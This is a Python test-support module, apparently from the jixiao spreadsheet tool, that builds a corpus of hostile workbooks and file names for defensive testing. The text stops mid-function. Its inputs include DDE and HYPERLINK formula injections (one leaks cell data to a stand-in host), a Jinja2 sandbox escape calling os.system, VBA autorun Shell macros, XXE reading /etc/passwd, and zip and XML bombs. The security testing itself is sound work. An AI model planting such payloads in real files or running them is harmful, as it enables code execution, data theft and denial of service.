"""A corpus of hostile inputs for every jixiao command (issue 8), generated, never committed.

    python -m tests.support.hostile DIR      write the corpus into DIR and list its cases

Each case is a folder ``<name>/in`` holding what a reviewer or an accountant might receive: workbooks
that try to run code, plant formulas, crash or exhaust jixiao; data files for ``fill`` that do the
same; files that are not files (FIFOs, devices, sockets, symlink loops); foreign formats renamed;
zip and XML bombs in every part. ``tests/test_hostile.py`` runs every command on every case and
checks what users were promised (exit code, a Chinese message naming the file, no traceback or
internal error, input unchanged, no stray file, no code run, no formula planted, bounded time and
memory).

Every piece of hostile text carries the token ``JXPWN``: no output may hold a formula containing it.
Every payload that would run code writes a file into ``<corpus>/pwned/``: it must stay empty.
Big cases are cheap to make: zip parts are written directly, files over a size limit are sparse.

A case says what it expects in the terms of the issue:
    kind "read"     a readable form (maybe with findings): validate 0/1, score 0, check 0/1, recalc 0,
                    new-year 0; fill 2 (a workbook is no data file)
    kind "refused"  every command exits 2 with a message naming the file
    kind "either"   a foreign file that may be read or refused (.xls, .et, .ods, exports): 0, 1 or 2,
                    and on 2 a clear message
    kind "foreign"  a readable form jixiao did not make (read by headings): read, and every output safe
    kind "data"     a data file for fill: fill as the case says, every workbook command 2
``expect`` overrides single commands; ``says`` lists words a command's output must contain.
"""
from __future__ import annotations

import io
import json
import os
import re
import socket
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import yaml

ROOT = Path(__file__).resolve().parents[2]
TOKEN = "JXPWN"

#: Hostile texts for form fields: every classic of CSV / formula injection, each with the token.
INJECTIONS = [
    f'=HYPERLINK("http://{TOKEN}.example/?leak="&A1,"点击查看")',
    f"=cmd|' /C calc {TOKEN}'!A0",
    f"+{TOKEN}+cmd|' /C calc'!A0",
    f"-2+3+cmd|' /C {TOKEN}'!A0",
    f"@SUM(1+1)*cmd|' /C {TOKEN}'!A0",
    f"\t={TOKEN}()",
    f"\r={TOKEN}()",
    f'=DDE("cmd";"/C {TOKEN}";"__DdeLink_60_870516294")',
    f"={TOKEN}",
]


@dataclass
class Case:
    name: str
    about: str
    kind: str = "read"
    target: str = ""                 # path under in/ given to the commands; "" = the only input file
    expect: dict[str, set[int]] = field(default_factory=dict)
    says: dict[str, list[str]] = field(default_factory=dict)
    names: str | dict = ""           # what a refusal must name (default: the target's file name), or per command
    env: dict[str, str] = field(default_factory=dict)   # {in} is replaced by the run's input folder
    user: str | None = None          # run unprivileged (as this user when the tests run as root)
    fsize: int | None = None         # RLIMIT_FSIZE: a full disk for the run's writes
    commands: dict[str, list[str]] | None = None   # instead of the standard commands ({t} {in} {out})
    outputs_in_input: bool = False   # a command may add files beside its input (new-year)


CASES: list[tuple[Case, Callable[[Path, Path], None]]] = []


def case(name: str, about: str, **kw):
    def register(make):
        CASES.append((Case(name, about, **kw), make))
        return make
    return register


# ---------------------------------------------------------------------------------------------------
# Building blocks
# ---------------------------------------------------------------------------------------------------

def _data(name: str) -> dict:
    if name == "national":
        return yaml.safe_load((ROOT / "tests" / "validation_cases" / "_bases.yaml").read_text(encoding="utf-8"))["national"]
    return yaml.safe_load((ROOT / "templates" / "examples" / f"{name}.yaml").read_text(encoding="utf-8"))


_built: dict = {}


def form_bytes(data: dict | str = "national", macros: bool = False) -> bytes:
    """A filled form made by jixiao's own builder, as bytes (.xlsm with the add-in's VBA if macros)."""
    key = (json.dumps(data, ensure_ascii=False, sort_keys=True, default=str), macros)
    if key not in _built:
        from jixiao.templates.builder import build_workbook
        from jixiao.templates.fill import form_from_data
        import tempfile
        profile, form = form_from_data(_data(data) if isinstance(data, str) else data)
        raw = build_workbook(profile, form, "native").bytes()
        if macros:
            from jixiao.addin.build import make_macro_enabled
            with tempfile.TemporaryDirectory() as td:
                (Path(td) / "a.xlsx").write_bytes(raw)
                make_macro_enabled(Path(td) / "a.xlsx", Path(td) / "a.xlsm")
                raw = (Path(td) / "a.xlsm").read_bytes()
        _built[key] = raw
    return _built[key]


def parts(raw: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def pack(members: dict[str, bytes], level: int = 6) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as z:
        for name, data in members.items():
            z.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


FORM_SHEET = "xl/worksheets/sheet1.xml"     # the form (项目支出绩效自评表)
PARAM_SHEET = "xl/worksheets/sheet2.xml"    # the hidden 参数 sheet: JX_PROFILE in B2, JX_YEAR in B3


def set_cell(xml: bytes, ref: str, cell: str) -> bytes:
    """Replace cell `ref` of a sheet part by the XML `cell` (or add it to its row)."""
    text = xml.decode("utf-8")
    pattern = re.compile(rf'<c r="{ref}"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
    if pattern.search(text):
        text = pattern.sub(lambda _m: cell, text, count=1)
    else:
        row = re.sub(r"[A-Z]+", "", ref)
        text = re.sub(rf'(<row r="{row}"[^>]*>)', lambda m: m.group(1) + cell, text, count=1)
    return text.encode("utf-8")


def text_cell(ref: str, text: str) -> str:
    from xml.sax.saxutils import escape
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(text)}</t></is></c>'


def patched(changes: dict[str, bytes | Callable[[bytes], bytes] | None], base: bytes | None = None) -> bytes:
    """The clean national form with parts replaced, changed (callable), added or removed (None)."""
    members = parts(base or form_bytes())
    for name, change in changes.items():
        if change is None:
            members.pop(name, None)
        elif callable(change):
            members[name] = change(members[name])
        else:
            members[name] = change
    return pack(members)


def with_sheet_extra(xml: bytes, before: str, extra: bytes) -> bytes:
    """Insert `extra` into a sheet part just before the element `before` (e.g. "</worksheet>")."""
    i = xml.rindex(before.encode())
    return xml[:i] + extra + xml[i:]


def profile_cell(name: str) -> Callable[[bytes], bytes]:
    return lambda xml: set_cell(xml, "B2", text_cell("B2", name))


def year_cell(value: str) -> Callable[[bytes], bytes]:
    return lambda xml: set_cell(xml, "B3", f'<c r="B3" t="n"><v>{value}</v></c>')


def jinja_payload(pwned: Path, what: str) -> str:
    return (f"{{{{ cycler.__init__.__globals__.os.system('touch {pwned}/{what}') }}}}\n"
            f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}\nname: {what}\n")


def write(path: Path, data: bytes | str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def sparse(path: Path, size: int, head: bytes = b"") -> Path:
    with open(path, "wb") as fh:
        fh.write(head)
        fh.truncate(size)
    return path


def ole2(stream_names: list[str]) -> bytes:
    """A compound file header and a directory sector naming `stream_names` (enough for sniffing)."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    directory = b"".join(n.encode("utf-16-le").ljust(64, b"\0") + bytes(64) for n in stream_names)
    return bytes(header) + directory.ljust(512, b"\0") + os.urandom(1024)


def national(**changes) -> dict:
    data = _data("national")
    for key, value in changes.items():
        data[key] = value
    return data


def doctype(kind: str, root: str) -> bytes:
    if kind == "laughs":
        ents = '<!ENTITY l0 "JXPWN">' + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
        return f'<?xml version="1.0"?><!DOCTYPE {root} [{ents}]>'.encode()
    if kind == "xxe":
        return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'.encode()
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://{TOKEN}.invalid/x.dtd">%p;]>'
            ).encode()


def with_doctype(kind: str) -> Callable[[bytes], bytes]:
    """Put a DOCTYPE of `kind` before the part's root element and use its entity inside it."""
    def change(xml: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        root = re.match(rb"<([\w:]+)", body).group(1)
        ref = {"laughs": b"&l9;", "xxe": b"&xxe;", "param": b""}[kind]
        close = b"</" + root + b">"
        if ref and close in body:
            i = body.rindex(close)
            body = body[:i] + ref + body[i:]
        return doctype(kind, root.decode()) + body
    return change


# ---------------------------------------------------------------------------------------------------
# A. Controls
# ---------------------------------------------------------------------------------------------------

@case("clean-national", "a clean national form: everything works", expect={"validate": {0}, "check": {0}})
def _(d, c):
    write(d / "2024年度农村饮水.xlsx", form_bytes())


@case("suzhou-xlsm", "a 苏州 form with the add-in's macros (.xlsm): copies stay .xlsm")
def _(d, c):
    write(d / "苏州.xlsm", form_bytes("suzhou_2021", macros=True))


@case("zhuzhou-findings", "the 株洲 seed with the mistakes it was printed with", expect={"validate": {1}, "check": {1}})
def _(d, c):
    write(d / "株洲.xlsx", form_bytes("zhuzhou_2020"))


# ---------------------------------------------------------------------------------------------------
# B. Code execution
# ---------------------------------------------------------------------------------------------------

@case("profile-path-beside", "JX_PROFILE names a Jinja2 file beside the workbook that would run a shell command",
      kind="refused", target="form.xlsx", says={"validate": ["规则配置名称"]})
def _(d, c):
    write(d / "rules.yaml.j2", jinja_payload(c, "profile-path-beside"))
    write(d / "form.xlsx", patched({PARAM_SHEET: profile_cell("rules.yaml.j2")}))


@case("profile-polyglot", "a file that is at once a valid .xlsx and a Jinja2 template, naming itself as profile",
      kind="refused", target="evil.yaml.j2")
def _(d, c):
    raw = patched({PARAM_SHEET: profile_cell("./evil.yaml.j2")})
    buf = io.BytesIO(raw)
    with zipfile.ZipFile(buf, "a") as z:
        z.comment = jinja_payload(c, "profile-polyglot").encode()
    write(d / "evil.yaml.j2", buf.getvalue())


@case("profile-unc", r"JX_PROFILE is a Windows network path \\host\share\p.yaml.j2", kind="refused",
      says={"validate": ["规则配置名称"]})
def _(d, c):
    write(d / "unc.xlsx", patched({PARAM_SHEET: profile_cell(r"\\JXPWN.invalid\share\p.yaml.j2")}))


@case("profile-sandbox-escape", "a profile on JIXIAO_PROFILE_PATH tries to escape Jinja2's sandbox",
      kind="refused", target="form.xlsx", env={"JIXIAO_PROFILE_PATH": "{in}/profiles"},
      says={"validate": ["不允许的操作"]})
def _(d, c):
    write(d / "profiles" / "evilprof.yaml.j2", jinja_payload(c, "profile-sandbox-escape"))
    write(d / "form.xlsx", patched({PARAM_SHEET: profile_cell("evilprof")}))


@case("profile-extends-path", "a profile on JIXIAO_PROFILE_PATH extends a path", kind="refused", target="form.xlsx",
      env={"JIXIAO_PROFILE_PATH": "{in}/profiles"})
def _(d, c):
    write(d / "evil.yaml.j2", jinja_payload(c, "profile-extends-path"))
    write(d / "profiles" / "child.yaml.j2", "extends: ../evil\nname: child\n")
    write(d / "form.xlsx", patched({PARAM_SHEET: profile_cell("child")}))


@case("profile-spinner", "a profile on JIXIAO_PROFILE_PATH with nested loops and 9**9**9 (would spin for hours)",
      kind="refused", target="form.xlsx", env={"JIXIAO_PROFILE_PATH": "{in}/profiles"},
      says={"validate": ["不允许的操作"]})
def _(d, c):
    write(d / "profiles" / "spin.yaml.j2", "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
                                           "{% endfor %}\nx: {{ 9**9**9 }}\nname: spin\n")
    write(d / "form.xlsx", patched({PARAM_SHEET: profile_cell("spin")}))


@case("profile-unknown", "JX_PROFILE names no known profile", kind="refused", says={"validate": ["找不到规则配置"]})
def _(d, c):
    write(d / "unknown.xlsx", patched({PARAM_SHEET: profile_cell("nosuchprofile")}))


@case("profile-huge-name", "JX_PROFILE holds a megabyte of text", kind="refused")
def _(d, c):
    write(d / "huge.xlsx", patched({PARAM_SHEET: profile_cell("national" + "蛤" * 400_000)}))


@case("vba-autorun", "an .xlsm whose Workbook_Open and Auto_Open would run a shell command (never run)")
def _(d, c):
    from jixiao.addin.build import Package, _with_vba_project
    from jixiao.addin.vba_sources import VBAModuleSource
    code = (f'Private Sub Workbook_Open()\r\n    Shell "touch {c}/vba-autorun"\r\nEnd Sub\r\n')
    std = f'Attribute VB_Name = "AutoRun"\r\nSub Auto_Open()\r\n    Shell "touch {c}/vba-auto-open"\r\nEnd Sub\r\n'
    pkg = _with_vba_project(Package.read(form_bytes()), [VBAModuleSource("AutoRun", "standard", std, "corpus"),
                                                        VBAModuleSource("ThisWorkbook", "document", code, "corpus")])
    members = pkg.parts
    ct = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    members["[Content_Types].xml"] = ct
    write(d / "autorun.xlsm", pack(members))


@case("dde-formulas", "input cells holding the user's own DDE / HYPERLINK formulas and an external link",
      expect={"validate": {0, 1}})
def _(d, c):
    def change(xml):
        xml = set_cell(xml, "B3", "<c r=\"B3\" t=\"str\"><f>cmd|' /C calc'!A0</f><v>项目</v></c>")
        return set_cell(xml, "B4", '<c r="B4" t="str"><f>HYPERLINK("http://example.invalid/","x")</f><v>x</v></c>')
    write(d / "dde.xlsx", patched({FORM_SHEET: change}))


# ---------------------------------------------------------------------------------------------------
# C. Formula injection, hostile names and text
# ---------------------------------------------------------------------------------------------------

def injected_data() -> dict:
    data = national()
    inj = iter(INJECTIONS * 20)
    data["header"] = {k: next(inj) for k in data["header"]}
    data["texts"] = {k: next(inj) for k in data["texts"]}
    for ind in data["indicators"]:
        ind["name"] = next(inj)
        ind["level2"] = next(inj)
        ind["explanation"] = next(inj)
        if isinstance(ind.get("actual"), str) and ind.get("level") is None:
            ind["actual"] = next(inj)
    data["file_name"] = "injected"
    return data


@case("inject-texts", "every text field of a form holds a formula-injection payload", expect={"validate": {0, 1}})
def _(d, c):
    write(d / "injected.xlsx", form_bytes(injected_data()))


@case("inject-sheet-name", "the form's sheet is named like a formula (=1+JXPWN)")
def _(d, c):
    def wb(xml):
        return xml.replace("项目支出绩效自评表".encode(), b"=1+JXPWN")
    write(d / "sheetname.xlsx", patched({"xl/workbook.xml": wb}))


@case("inject-file-names", "files named like formulas in a folder (= + - @ tab)", target=".",
      expect={"check": {2}, "recalc": {2}, "new-year": {2}, "import": {2}})
def _(d, c):
    for name in ("=HYPERLINK(JXPWN)+1.xlsx", "+JXPWN.xlsx", "-JXPWN.xlsx", "@JXPWN.xlsx", "\tJXPWN.xlsx",
                 "=cmd|' C calc JXPWN'!A0.xlsx"):
        write(d / name, form_bytes())


@case("esc-file-name", "a file name with terminal escape sequences", names="JXPWN")
def _(d, c):
    write(d / "\x1b]0;JXPWN\x07\x1b[2J\x1b[31mred.xlsx", form_bytes())


@case("newline-file-name", "a file name with a line break that forges a report line", names="JXPWN")
def _(d, c):
    write(d / "a\n[通过] JXPWN.xlsx", form_bytes())


@case("bidi-file-name", "a file name with a right-to-left override", names="JXPWN")
def _(d, c):
    write(d / "\u202eJXPWN\u202cxslx.xlsx", form_bytes())


@case("invalid-utf8-file-name", "a file name that is not UTF-8", names="JXPWN")
def _(d, c):
    with open(os.fsencode(d) + b"/\xff\xfeJXPWN\x80.xlsx", "wb") as fh:
        fh.write(form_bytes())


@case("long-file-name", "a 250-byte Chinese file name: new-year's name must still fit in 255 bytes")
def _(d, c):
    write(d / ("农村饮水安全巩固提升工程绩效自评" * 6)[:80].__add__(".xlsx"), form_bytes())


@case("long-text-cell", "the project name is 100,000 characters (Excel holds 32,767 in a cell)",
      expect={"validate": {0, 1}})
def _(d, c):
    write(d / "longtext.xlsx", patched({FORM_SHEET: lambda x: set_cell(x, "B3", text_cell("B3", "长" * 100_000 + TOKEN))}))


@case("escaped-control-text", "cells hold _x001B_ / _x0000_ escapes (openpyxl decodes them to control characters)",
      expect={"validate": {0, 1}})
def _(d, c):
    def change(xml):
        xml = set_cell(xml, "B3", text_cell("B3", "_x001B_[2J_x0000_项目_x0007_JXPWN"))
        return set_cell(xml, "G4", text_cell("G4", "=_x000B_JXPWN"))
    write(d / "escapes.xlsx", patched({FORM_SHEET: change}))


# ---------------------------------------------------------------------------------------------------
# D. Numbers no spreadsheet would write
# ---------------------------------------------------------------------------------------------------

def _funds_cells(xml: bytes, values: list[str]) -> bytes:
    # the national funds rows: 年初预算数 C7.., 全年预算数 E7.., 全年执行数 F7.. (see the contract names)
    for ref, value in zip(("D7", "E7", "F7", "D8", "E8", "F8"), values):
        xml = set_cell(xml, ref, f'<c r="{ref}" t="n"><v>{value}</v></c>')
    return xml


@case("huge-numbers", "1e308 in amounts and weights: sums overflow", expect={"validate": {0, 1}})
def _(d, c):
    write(d / "huge.xlsx", patched({FORM_SHEET: lambda x: _funds_cells(x, ["1e308"] * 6)}))


@case("nan-inf-cells", "NaN, inf and -inf written as cell values: #NUM! to validate, a damaged file to openpyxl",
      expect={"validate": {0, 1}, "check": {2}, "recalc": {2}, "new-year": {2}}, says={"check": ["损坏"]})
def _(d, c):
    write(d / "naninf.xlsx", patched({FORM_SHEET: lambda x: _funds_cells(x, ["NaN", "inf", "-inf", "nan", "INF", "1e999"])}))


@case("overflow-numbers", "weights and amounts of 9e307: sums overflow to infinity (#NUM! in Excel)",
      expect={c: {2} for c in ("validate", "validate-csv", "validate-json", "summary", "score", "check", "recalc",
                               "report", "import")},
      says={"validate": ["溢出"], "check": ["溢出"], "import": ["溢出"]})
def _(d, c):
    def change(xml):
        xml = _funds_cells(xml, ["1e307", "9e307", "9e307", "1e-300", "9e307", "9e307"])
        for r in range(13, 21):
            xml = set_cell(xml, f"G{r}", f'<c r="G{r}" t="n"><v>9e307</v></c>')
        return xml
    write(d / "overflow.xlsx", patched({FORM_SHEET: change}))


@case("year-inf", "the year (JX_YEAR) is inf", kind="refused", says={"validate": ["JX_YEAR"]})
def _(d, c):
    write(d / "yearinf.xlsx", patched({PARAM_SHEET: year_cell("inf")}))


@case("year-huge", "the year (JX_YEAR) is 1e20", kind="refused", says={"validate": ["JX_YEAR"]})
def _(d, c):
    write(d / "yearhuge.xlsx", patched({PARAM_SHEET: year_cell("1E+20")}))


@case("year-nan", "the year (JX_YEAR) is NaN", kind="refused", says={"validate": ["JX_YEAR"]})
def _(d, c):
    write(d / "yearnan.xlsx", patched({PARAM_SHEET: year_cell("NaN")}))


# ---------------------------------------------------------------------------------------------------
# E. Structure, limits, bombs
# ---------------------------------------------------------------------------------------------------

def _merges(xml: bytes, refs: list[str]) -> bytes:
    text = xml.decode()
    text = re.sub(r"<mergeCells[^>]*>.*?</mergeCells>|<mergeCells[^>]*/>", "", text, flags=re.S)
    block = f'<mergeCells count="{len(refs)}">' + "".join(f'<mergeCell ref="{r}"/>' for r in refs) + "</mergeCells>"
    i = text.index("</sheetData>") + len("</sheetData>")
    # mergeCells follow sheetProtection / autoFilter etc.: after sheetData and any sheetProtection
    m = re.search(r"<sheetProtection[^>]*/>", text)
    if m:
        i = m.end()
    return (text[:i] + block + text[i:]).encode()


@case("merges-50k", "50,000 merged ranges in the form sheet (a 256 KB file)", kind="refused", says={"validate": ["合并"]})
def _(d, c):
    from openpyxl.utils import get_column_letter
    refs = [f"{get_column_letter(20 + (i % 200) * 2)}{100 + i // 200}:{get_column_letter(21 + (i % 200) * 2)}{100 + i // 200}"
            for i in range(50_000)]
    write(d / "merges.xlsx", patched({FORM_SHEET: lambda x: _merges(x, refs)}))


@case("merge-giant", "one merged range over the whole sheet (A1:XFD1048576) plus the form's own", kind="refused",
      says={"validate": ["合并"]})
def _(d, c):
    def change(xml):
        refs = re.findall(rb'<mergeCell ref="([^"]+)"', xml)
        return _merges(xml, [r.decode() for r in refs] + ["A200:XFD1048576"])
    write(d / "giant.xlsx", patched({FORM_SHEET: change}))


@case("names-huge-range", "JX_ names stretched over a million rows", kind="refused")
def _(d, c):
    def wb(xml):
        text = xml.decode()
        text = re.sub(r"(<definedName name=\"JX_IND_NAME\">[^!]+!\$[A-Z]+\$)\d+:(\$[A-Z]+\$)\d+", r"\g<1>1:\g<2>1048576", text)
        text = re.sub(r"(<definedName name=\"JX_P_LEVEL_SCORE\">[^!]+!)[^<]+", r"\1$A$1:$XFD$1048576", text)
        return text.encode()
    write(d / "bignames.xlsx", patched({"xl/workbook.xml": wb}))


@case("names-100k", "100,000 defined names", kind="refused", says={"validate": ["名称"]})
def _(d, c):
    def wb(xml):
        extra = "".join(f'<definedName name="X{i}">Sheet1!$A$1</definedName>' for i in range(100_000))
        return xml.replace(b"</definedNames>", extra.encode() + b"</definedNames>")
    write(d / "names.xlsx", patched({"xl/workbook.xml": wb}))


@case("sheets-10k", "10,000 sheets", kind="refused", says={"validate": ["工作表"]})
def _(d, c):
    members = parts(form_bytes())
    n = 10_000
    sheets = "".join(f'<sheet name="S{i}" sheetId="{i + 100}" r:id="rX{i}" '
                     'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>' for i in range(n))
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(b"</sheets>", sheets.encode() + b"</sheets>")
    rels = "".join(f'<Relationship Id="rX{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   f'worksheet" Target="worksheets/x.xml"/>' for i in range(n))
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", rels.encode() + b"</Relationships>")
    members["xl/worksheets/x.xml"] = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                      b"<sheetData/></worksheet>")
    write(d / "sheets.xlsx", pack(members))


def _rows_xml(n: int, cols: int = 1, start: int = 1) -> bytes:
    from openpyxl.utils import get_column_letter
    letters = [get_column_letter(i + 1) for i in range(cols)]
    out = io.BytesIO()
    out.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    for r in range(start, start + n):
        out.write(f'<row r="{r}">'.encode() + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters).encode() + b"</row>")
    out.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _add_sheet(members: dict[str, bytes], name: str, xml: bytes) -> None:
    part = f"xl/worksheets/{name}.xml"
    members[part] = xml
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(
        b"</sheets>", f'<sheet name="{name}" sheetId="99" r:id="rExtra" xmlns:r="http://schemas.openxmlformats.org/'
                      f'officeDocument/2006/relationships"/></sheets>'.encode())
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rExtra" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             f'relationships/worksheet" Target="worksheets/{name}.xml"/></Relationships>'.encode())
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.'
                     f'spreadsheetml.worksheet+xml"/></Types>'.encode())


@case("rows-1m", "an extra sheet with 1,048,576 rows (the form itself is fine: validate reads only the form)",
      expect={"validate": {0}, "validate-csv": {0}, "validate-json": {0}, "summary": {0}, "score": {0},
              "check": {2}, "recalc": {2}, "new-year": {2}}, says={"check": ["行"]})
def _(d, c):
    members = parts(form_bytes())
    _add_sheet(members, "data", _rows_xml(1_048_576))
    write(d / "rows.xlsx", pack(members, level=1))


@case("cells-form-sheet", "the form sheet itself holds 330,000 cells", kind="refused", says={"validate": ["单元格"]})
def _(d, c):
    def change(xml):
        extra = _rows_xml(11_000, 30, start=200)
        body = extra[extra.index(b"<sheetData>") + 11: extra.index(b"</sheetData>")]
        return xml.replace(b"</sheetData>", body + b"</sheetData>")
    write(d / "cells.xlsx", patched({FORM_SHEET: change}))


@case("deep-xml-sheet", "100,000 nested elements in the form sheet: harmless to validate's streaming reader, "
      "refused by the commands that load the workbook with openpyxl", expect={
          "validate": {0}, "validate-csv": {0}, "validate-json": {0}, "summary": {0}, "score": {0},
          "check": {2}, "recalc": {2}, "new-year": {2}}, says={"check": ["层"]})
def _(d, c):
    deep = b"<extLst>" + b"<ext>" * 100_000 + b"</ext>" * 100_000 + b"</extLst>"
    write(d / "deep.xlsx", patched({FORM_SHEET: lambda x: with_sheet_extra(x, "</worksheet>", deep)}))


@case("deep-xml-styles", "10,000 nested elements in styles.xml (a part only openpyxl reads)", expect={
          "validate": {0}, "validate-csv": {0}, "validate-json": {0}, "summary": {0}, "score": {0},
          "check": {2}, "recalc": {2}, "new-year": {2}}, says={"check": ["层"]})
def _(d, c):
    deep = b"<extLst>" + b"<ext>" * 10_000 + b"</ext>" * 10_000 + b"</extLst>"
    write(d / "deepstyles.xlsx", patched({"xl/styles.xml": lambda x: with_sheet_extra(x, "</styleSheet>", deep)}))


_XML_PARTS = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", FORM_SHEET,
              PARAM_SHEET, "xl/styles.xml", "docProps/core.xml", "docProps/app.xml", "xl/theme/theme1.xml",
              "xl/worksheets/sheet3.xml", "xl/sharedStrings.xml"]

for _i, _part in enumerate(_XML_PARTS):
    _kind = ("laughs", "xxe")[_i % 2]
    _slug = re.sub(r"[^a-z0-9]+", "-", _part.lower()).strip("-")

    @case(f"{_kind}-{_slug}", f"{'billion laughs' if _kind == 'laughs' else 'XXE (file:///etc/passwd)'} in {_part}",
          kind="refused", says={"validate": ["DTD"]})
    def _(d, c, _part=_part, _kind=_kind):
        if _part == "xl/sharedStrings.xml":
            members = parts(form_bytes())
            members[_part] = (b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
                              b'uniqueCount="1"><si><t>x</t></si></sst>')
            members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
                b"</Relationships>", b'<Relationship Id="rSS" Type="http://schemas.openxmlformats.org/officeDocument/'
                b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
            members[_part] = with_doctype(_kind)(members[_part])
            write(d / "bomb.xlsx", pack(members))
        else:
            write(d / "bomb.xlsx", patched({_part: with_doctype(_kind)}))


@case("xxe-parameter-entity", "a parameter entity fetching a remote DTD in workbook.xml", kind="refused",
      says={"validate": ["DTD"]})
def _(d, c):
    write(d / "param.xlsx", patched({"xl/workbook.xml": with_doctype("param")}))


@case("not-a-zip", "random bytes named .xlsx", kind="refused", says={"validate": ["不是 Excel 工作簿"]})
def _(d, c):
    write(d / "random.xlsx", os.urandom(4096))


@case("empty-file", "an empty .xlsx", kind="refused", says={"validate": ["空的"]})
def _(d, c):
    write(d / "empty.xlsx", b"")


@case("truncated", "the first half of a valid workbook", kind="refused", says={"validate": ["损坏"]})
def _(d, c):
    raw = form_bytes()
    write(d / "truncated.xlsx", raw[: len(raw) // 2])


@case("zip-bomb-honest", "a member of 300 MB of zeros, sizes declared honestly", kind="refused",
      says={"validate": ["压缩"]})
def _(d, c):
    members = parts(form_bytes())
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
        info = zipfile.ZipInfo("xl/media/zeros.bin", (2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as fh:
            chunk = bytes(1 << 20)
            for _ in range(300):
                fh.write(chunk)
    write(d / "bomb.xlsx", buf.getvalue())


def _lie_sizes(raw: bytes, name: str, size: int) -> bytes:
    """Make the zip declare `size` bytes uncompressed for member `name` (local header and directory)."""
    data = bytearray(raw)
    enc = name.encode()
    for sig, off_size, off_name_len in ((b"PK\x03\x04", 22, 26), (b"PK\x01\x02", 24, 28)):
        start = 0
        while True:
            i = data.find(sig, start)
            if i < 0:
                break
            n = struct.unpack_from("<H", data, i + off_name_len)[0]
            hdr = 30 if sig == b"PK\x03\x04" else 46
            if bytes(data[i + hdr: i + hdr + n]) == enc:
                struct.pack_into("<I", data, i + off_size, size)
            start = i + 4
    return bytes(data)


@case("zip-bomb-lying", "the form sheet inflates to 100 MB while its header says 30 KB", kind="refused",
      says={"validate": ["损坏"]})
def _(d, c):
    members = parts(form_bytes())
    sheet = members[FORM_SHEET]
    members[FORM_SHEET] = sheet.replace(b"</worksheet>", b"<!--" + b" " * (100 << 20) + b"--></worksheet>")
    raw = pack(members)
    write(d / "lying.xlsx", _lie_sizes(raw, FORM_SHEET, len(sheet)))


@case("zip-bomb-overlap", "10,000 directory entries pointing at the same compressed data", kind="refused")
def _(d, c):
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = payload.compress(bytes(1 << 20)) + payload.flush()
    crc = zlib.crc32(bytes(1 << 20))
    out = io.BytesIO()
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(comp), 1 << 20, 5, 0) + b"a.xml"
    out.write(local + comp)
    central = io.BytesIO()
    n = 10_000
    for i in range(n):
        name = f"xl/p{i}.xml".encode()
        central.write(struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(comp), 1 << 20,
                                  len(name), 0, 0, 0, 0, 0, 0) + name)
    cd = central.getvalue()
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, n, n, len(cd), out.tell(), 0)
    write(d / "overlap.xlsx", out.getvalue() + cd + end)


@case("zip-many-members", "20,000 members", kind="refused", says={"validate": ["部件"]})
def _(d, c):
    members = parts(form_bytes())
    for i in range(20_000):
        members[f"xl/junk/{i}.xml"] = b"<a/>"
    write(d / "members.xlsx", pack(members, level=1))


@case("zip-encrypted-member", "a member flagged as encrypted (traditional PKWARE)", kind="refused",
      says={"validate": ["加密"]})
def _(d, c):
    raw = bytearray(form_bytes())
    i = raw.find(b"PK\x01\x02")
    while i >= 0:
        raw[i + 8] |= 1
